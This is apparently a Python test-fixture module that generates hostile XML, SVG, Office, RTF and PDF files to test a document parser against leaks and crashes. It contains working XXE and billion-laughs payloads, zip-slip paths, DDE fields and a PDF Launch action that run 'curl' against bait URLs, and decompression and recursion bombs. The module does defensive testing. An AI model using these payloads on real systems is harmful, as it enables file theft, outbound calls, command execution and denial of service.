"""Hostile documents: XML, Office and PDF that read files, call out or burst."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from reportlab.pdfgen.canvas import Canvas

from tests.leaks.hostile import BOMB, Bait, add, file, zipped

# XML: entities that read files or call out, in every format that holds XML


def xxe(bait: Bait, name: str, *, inner: str = "<x>Beispiel &e;</x>", remote: bool = False) -> str:
    where = bait.url(name) if remote else f"file://{bait.canary}"
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{where}">]>{inner}'


def _parameter_entity(bait: Bait, name: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "{bait.url(name)}.dtd"> %d;]><x>Beispiel &e;</x>'


def _laughs(root: str = "l", attributes: str = "") -> str:
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "haha">{names}]>'
    return f"{head}<{root}{attributes}>&l9;</{root}>"


_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

for _remote in (False, True):
    _how = "http" if _remote else "file"
    add(f"xml-entity-{_how}.xml", lambda b, r=_remote, h=_how: xxe(b, f"xml-{h}", remote=r).encode())  # type: ignore[misc]
    add(
        f"xml-svg-{_how}.svg",
        lambda b, r=_remote, h=_how: xxe(  # type: ignore[misc]
            b, f"svg-{h}", inner=f"<svg {_SVG}><text>Beispiel &e;</text></svg>", remote=r
        ).encode(),
    )
    add(
        f"xml-xhtml-{_how}.xhtml",
        lambda b, r=_remote, h=_how: xxe(  # type: ignore[misc]
            b, f"xhtml-{h}", inner='<html xmlns="http://www.w3.org/1999/xhtml"><body>&e;</body></html>', remote=r
        ).encode(),
    )
add("xml-utf16.xml", lambda b: xxe(b, "utf16").encode("utf-16"))
add("xml-parameter.xml", lambda b: _parameter_entity(b, "parameter").encode())
add("xml-doctype.xml", lambda b: f'<!DOCTYPE x SYSTEM "{b.url("doctype")}.dtd"><x>Beispiel</x>'.encode())
add(
    "xml-include.xml",
    lambda b: (
        '<x xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include parse="text" href="file://{b.canary}"/><xi:include href="{b.url("include")}"/></x>'
    ).encode(),
)
add(
    "xml-stylesheet.xml",
    lambda b: (
        f'<?xml version="1.0"?><?xml-stylesheet href="{b.url("sheet")}" type="text/xsl"?><x>Beispiel</x>'.encode()
    ),
)
add(
    "xml-schema.xml",
    lambda b: (
        '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{b.url("schema")}">Beispiel</x>'
    ).encode(),
)
add(
    "xml-rss.xml",
    lambda b: xxe(b, "rss", inner='<rss version="2.0"><channel><title>&e;</title></channel></rss>').encode(),
)
add(
    "xml-plist.plist",
    lambda b: xxe(
        b, "plist", inner='<plist version="1.0"><dict><key>a</key><string>&e;</string></dict></plist>'
    ).encode(),
)
add("xml-fictionbook.fb2", lambda b: xxe(b, "fb2", inner="<FictionBook><body>&e;</body></FictionBook>").encode())
add("xml-laughs.xml", lambda _: _laughs().encode())
add("xml-laughs.svg", lambda _: _laughs("svg", f" {_SVG}").encode())
add(
    "xml-quadratic.xml",
    lambda _: f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 20_000}</x>'.encode(),
)
add("xml-deep.xml", lambda _: b"<a>" * 200_000 + b"Beispiel" + b"</a>" * 200_000)
add("xml-attributes.xml", lambda _: b"<a " + b" ".join(b"b%d='1'" % n for n in range(200_000)) + b"/>")
add(
    "svg-images.svg",
    lambda b: (
        f'<svg {_SVG}><image xlink:href="{b.url("svg-image")}"/><use href="{b.url("svg-use")}#a"/>'
        f'<image xlink:href="file://{b.canary}"/><script href="{b.url("svg-script")}"/><text>Beispiel</text></svg>'
    ).encode(),
)


# Office


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx(**parts: str) -> bytes:
    """Return a document; `parts` replaces what lies under names whose signs are written as words."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELATIONS,
        "word/document.xml": _body("<w:p><w:r><w:t>Beispiel</w:t></w:r></w:p>"),
    }
    names = {
        "types": "[Content_Types].xml",
        "rels": "_rels/.rels",
        "document": "word/document.xml",
        "document_rels": "word/_rels/document.xml.rels",
        "settings": "word/settings.xml",
        "settings_rels": "word/_rels/settings.xml.rels",
        "core": "docProps/core.xml",
    }
    return zipped(members | {names[part]: content for part, content in parts.items()})


def _outside(kind: str, target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_R}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def _body(inner: str) -> str:
    return f'<w:document {_W} xmlns:r="{_R}"><w:body>{inner}</w:body></w:document>'


def _word_field(instruction: str) -> str:
    return _body(f"<w:p><w:fldSimple w:instr=' {instruction} '><w:r><w:t>Beispiel</w:t></w:r></w:fldSimple></w:p>")


DOCUMENT_XXE = f"<w:document {_W}><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
add("docx-entity.docx", lambda b: docx(document=xxe(b, "docx", inner=DOCUMENT_XXE)))
add("docx-entity-http.docx", lambda b: docx(document=xxe(b, "docx-http", inner=DOCUMENT_XXE, remote=True)))
add("docx-types.docx", lambda b: docx(types=_parameter_entity(b, "docx-types")))
add("docx-relations.docx", lambda b: docx(rels=_parameter_entity(b, "docx-rels")))
add("docx-core.docx", lambda b: docx(core=xxe(b, "docx-core")))
add("docx-laughs.docx", lambda _: docx(document=_laughs("w:document", f" {_W}")))
add(
    "docx-template.docx",
    lambda b: docx(
        settings=f'<w:settings {_W} xmlns:r="{_R}"><w:attachedTemplate r:id="rId9"/></w:settings>',
        settings_rels=_outside("attachedTemplate", b.url("template.dotm")),
    ),
)
add("docx-image.docx", lambda b: docx(document_rels=_outside("image", b.url("docx-image.png"))))
add("docx-object.docx", lambda b: docx(document_rels=_outside("oleObject", f"file://{b.canary}")))
add(
    "docx-chunk.docx",
    lambda b: docx(document=_body('<w:altChunk r:id="rId9"/>'), document_rels=_outside("aFChunk", b.url("chunk"))),
)
add("docx-dde.docx", lambda b: docx(document=_word_field(f'DDEAUTO c:\\\\cmd "/c curl {b.url("dde")}"')))
add("docx-text.docx", lambda b: docx(document=_word_field(f'INCLUDETEXT "{b.canary}"')))
add("docx-picture.docx", lambda b: docx(document=_word_field(f'INCLUDEPICTURE "{b.url("picture")}" \\\\d')))
add("docx-slip.docx", lambda b: zipped({"[Content_Types].xml": _TYPES, f"../../../tmp/{b.escape}-docx": "x"}))

_X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _xlsx(bait: Bait, *, strings: str | None = None, formula: str | None = None, link: str | None = None) -> bytes:
    cell = f'<c r="A1"><f>{formula}</f><v>1</v></c>' if formula else '<c r="A1" t="s"><v>0</v></c>'
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kinds}.sharedStrings+xml"/></Types>'
    )
    inside = (
        f'<Relationship Id="s1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="s2" Type="{_R}/sharedStrings" Target="sharedStrings.xml"/>'
    )
    if link:
        inside += f'<Relationship Id="s3" Type="{_R}/externalLinkPath" Target="{link}" TargetMode="External"/>'
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{0}</Relationships>'
    )
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations.format(
                f'<Relationship Id="r1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/workbook.xml": (
                f'<workbook {_X} xmlns:r="{_R}"><sheets><sheet name="A" sheetId="1" r:id="s1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": relations.format(inside),
            "xl/worksheets/sheet1.xml": f'<worksheet {_X}><sheetData><row r="1">{cell}</row></sheetData></worksheet>',
            "xl/sharedStrings.xml": strings or f"<sst {_X}><si><t>Beispiel</t></si></sst>",
        }
    )


add("xlsx-entity.xlsx", lambda b: _xlsx(b, strings=xxe(b, "xlsx", inner=f"<sst {_X}><si><t>&e;</t></si></sst>")))
add("xlsx-laughs.xlsx", lambda b: _xlsx(b, strings=_laughs("sst", f" {_X}")))
add("xlsx-webservice.xlsx", lambda b: _xlsx(b, formula=f'WEBSERVICE("{b.url("webservice")}")'))
add("xlsx-dde.xlsx", lambda b: _xlsx(b, formula="cmd|'/c calc'!A0"))
add("xlsx-link.xlsx", lambda b: _xlsx(b, link=b.url("xlsx-link.xlsx")))


def _odt(content: str, **more: str) -> bytes:
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "META-INF/manifest.xml": more.get("manifest", manifest),
            **({"meta.xml": more["meta"]} if "meta" in more else {}),
        }
    )


_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)


def _odt_body(inner: str) -> str:
    body = f"<office:body><office:text>{inner}</office:text></office:body>"
    return f"<office:document-content {_ODF}>{body}</office:document-content>"


_PLAIN_ODT = _odt_body("<text:p>Beispiel</text:p>")
add("odt-entity.odt", lambda b: _odt(xxe(b, "odt", inner=_odt_body("<text:p>&e;</text:p>"))))
add("odt-meta.odt", lambda b: _odt(_PLAIN_ODT, meta=xxe(b, "odt-meta")))
add("odt-manifest.odt", lambda b: _odt(_PLAIN_ODT, manifest=_parameter_entity(b, "odt-manifest")))
add("odt-image.odt", lambda b: _odt(_odt_body(f'<draw:image xlink:href="{b.url("odt-image")}"/>')))
add(
    "odt-section.odt",
    lambda b: _odt(_odt_body(f'<text:section><text:section-source xlink:href="file://{b.canary}"/></text:section>')),
)
add("odt-laughs.odt", lambda _: _odt(_laughs("office:document-content", f" {_ODF}")))
add("rtf-field.rtf", lambda b: rf'{{\rtf1 Beispiel {{\field{{\*\fldinst INCLUDETEXT "{b.canary}"}}}}}}'.encode())
add("rtf-template.rtf", lambda b: rf"{{\rtf1{{\*\template {b.url('rtf')}}} Beispiel}}".encode())
add("rtf-deep.rtf", lambda _: rb"{\rtf1" + b"{" * 300_000 + b"Beispiel" + b"}" * 300_000 + b"}")
add("rtf-object.rtf", lambda _: rb"{\rtf1 Beispiel{\object\objemb{\*\objdata " + b"41" * 200_000 + b"}}}")
add("doc-loop.doc", lambda _: _looping_compound_file())
add("doc-noise.doc", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64)


def _looping_compound_file() -> bytes:
    """Return an old Office container whose table of sectors points to itself."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", head, 44, 1, 0, 0, 4096)
    struct.pack_into("<IIII", head, 60, 0, 1, 0, 0)
    struct.pack_into("<I", head, 76, 0)
    return bytes(head) + struct.pack("<128I", *([0] * 128)) * 4


# PDF


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **more: object) -> bytes:
    plain, out = io.BytesIO(), io.BytesIO()
    canvas = Canvas(plain, invariant=1)
    canvas.drawString(72, 720, "Beispiel")
    canvas.save()
    with pikepdf.open(plain) as opened:
        if change is not None:
            change(opened)
        opened.save(out, **more)  # type: ignore[arg-type]
    return out.getvalue()


def _xfa(content: str) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(content.encode()))

    return pdf(change)


_XDP = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><draw><text>&e;</text></draw></template></xdp:xdp>'
add("pdf-form-file.pdf", lambda b: _xfa(xxe(b, "xfa", inner=_XDP)))
add("pdf-form-http.pdf", lambda b: _xfa(xxe(b, "xfa-http", inner=_XDP, remote=True)))
add("pdf-form-parameter.pdf", lambda b: _xfa(_parameter_entity(b, "xfa-parameter")))
add("pdf-form-laughs.pdf", lambda _: _xfa(_laughs()))


def _action(**parts: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(**parts))

    return pdf(change)


_N = pikepdf.Name
add("pdf-script.pdf", lambda b: _action(S=_N.JavaScript, JS=f"app.launchURL('{b.url('js')}'); while(true){{}}"))
add("pdf-launch.pdf", lambda b: _action(S=_N.Launch, F=f"/bin/sh -c 'curl {b.url('launch')}'"))
add("pdf-uri.pdf", lambda b: _action(S=_N.URI, URI=b.url("uri")))
add("pdf-remote.pdf", lambda b: _action(S=_N.GoToR, F=b.url("gotor"), D="x"))
add("pdf-submit.pdf", lambda b: _action(S=_N.SubmitForm, F=pikepdf.Dictionary(FS=_N.URL, F=b.url("submit"))))
add("pdf-import.pdf", lambda b: _action(S=_N.ImportData, F=str(b.canary)))


@file("pdf-outside-stream.pdf")
def _outside_stream(bait: Bait) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"BT ET")
        stream.stream_dict.F = str(bait.canary)
        stream.stream_dict.FFilter = _N.ASCIIHexDecode
        pdf.pages[0].Contents = stream

    return pdf(change)


@file("pdf-attached.pdf")
def _attached(bait: Bait) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["rechnung.xml"] = pikepdf.AttachedFileSpec(pdf, xxe(bait, "attached").encode())

    return pdf(change)


@file("pdf-huge-page.pdf")
def _huge_page(_: Bait) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].MediaBox = [0, 0, 14_000_000, 14_000_000]
        pdf.pages[0].Contents = pdf.make_stream(b"0 0 m 1 1 l S")

    return pdf(change)


@file("pdf-inflating.pdf")
def _inflating(_: Bait) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        twice = zlib.compress(zlib.compress(bytes(BOMB), 1), 9)
        stream = pikepdf.Stream(pdf, twice)
        stream.write(twice, filter=[_N.FlateDecode, _N.FlateDecode])
        pdf.pages[0].Contents = stream

    return pdf(change)


@file("pdf-circle-of-pages.pdf")
def _circle(_: Bait) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Outlines 3 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 100000000>>endobj\n"
        b"3 0 obj<</First 3 0 R/Next 3 0 R/Last 3 0 R/Title(x)>>endobj\n"
        b"trailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF"
    )


@file("pdf-form-in-itself.pdf")
def _form_in_itself(_: Bait) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        form = pdf.make_indirect(
            pdf.make_stream(b"/A Do /A Do /A Do", Type=_N.XObject, Subtype=_N.Form, BBox=[0, 0, 9, 9])
        )
        form.stream_dict.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))
        pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))
        pdf.pages[0].Contents = pdf.make_stream(b"/A Do")

    return pdf(change)


add(
    "pdf-nested.pdf",
    lambda _: b"%PDF-1.4\n1 0 obj" + b"[" * 500_000 + b"]" * 500_000 + b"endobj\ntrailer<</Root 1 0 R>>",
)
add("pdf-locked.pdf", lambda _: pdf(encryption=pikepdf.Encryption(owner="oben", user="unten")))
add("pdf-half-locked.pdf", lambda _: pdf(encryption=pikepdf.Encryption(owner="oben", user="")))
